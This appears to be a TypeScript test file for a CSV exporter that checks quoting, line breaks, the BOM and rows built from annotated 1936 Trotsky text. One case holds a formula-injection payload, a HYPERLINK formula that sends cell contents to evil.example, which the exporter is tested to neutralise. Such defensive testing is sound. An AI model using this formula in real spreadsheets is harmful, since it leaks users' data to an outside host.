import * as assert from 'node:assert';
import { parse } from 'csv-parse/sync';
import { CSV_COLUMNS, csvField, toCsv } from '../../src/core/export/csv';
import { at, fixture } from './export-fixture';

describe('csvField', () => {
  const cases: Array<[string, string]> = [
    ['Kirov', 'Kirov'],
    ['Stalin, Yagoda, Kirov himself', '"Stalin, Yagoda, Kirov himself"'],
    ['Today "A" admitted a little fact', '"Today ""A"" admitted a little fact"'],
    ['Written: 18 December 1936.\nFirst Published', '"Written: 18 December 1936.\nFirst Published"'],
    ['line\r\nbreak', '"line\r\nbreak"'],
    ['“personally saw”', '“personally saw”'],
    ['', ''],
    // Formula injection from a hostile note: spreadsheets must show it as text.
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'],
    ['+1+2', "'+1+2"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['1936-12-18', '1936-12-18'],
  ];
  for (const [value, field] of cases) {
    it(`${JSON.stringify(value)} -> ${JSON.stringify(field)}`, () => assert.strictEqual(csvField(value), field));
  }
});

describe('toCsv', () => {
  const csv = toCsv([fixture()]);
  const rows: string[][] = parse(csv, { bom: true, relax_column_count: false });

  it('starts with a BOM, ends every record with CRLF, and only then', () => {
    assert.ok(csv.startsWith('\uFEFFfile,kind,start,end,'));
    assert.ok(csv.endsWith('\r\n'));
    assert.strictEqual(toCsv([fixture()], { bom: false }).charCodeAt(0), 'f'.charCodeAt(0));
  });

  it('parses back to a header and one row per mention or annotation', () => {
    assert.deepStrictEqual(rows[0], [...CSV_COLUMNS]);
    // 6 mentions + 3 annotations, no annotation on exactly a mention's range.
    assert.strictEqual(rows.length, 1 + 9);
  });

  it('keeps commas, quotes and Markdown of a note intact, with 1-based line and column', () => {
    const row = rows.find((r) => r[13] === 'a3f9c1');
    assert.ok(row);
    const { start, end } = at('Goltzman alone “personally saw” me');
    assert.deepStrictEqual(row, [
      'essays/trotsky-1936.txt',
      'confession',
      String(start),
      String(end),
      '1',
      String(start + 1),
      'Goltzman alone “personally saw” me',
      'goltzman',
      '',
      '',
      '',
      'The only one of the older accused who claims to have *seen* Trotsky, "in person".',
      'contradiction; Hotel Bristol',
      'a3f9c1',
      '',
      '',
      '',
      '',
      '',
    ]);
  });

  it("counts lines for the second paragraph and leaves an orphan's position empty", () => {
    const date = rows.find((r) => r[1] === 'date');
    assert.deepStrictEqual(date?.slice(4, 9), [
      '3',
      String(at('18 December 1936').start - at('🕯').start + 1),
      '18 December 1936',
      '',
      '1936-12-18',
    ]);
    const orphan = rows.find((r) => r[13] === 'c0ffee');
    assert.deepStrictEqual(orphan?.slice(2, 6), ['', '', '', '']);
  });
});
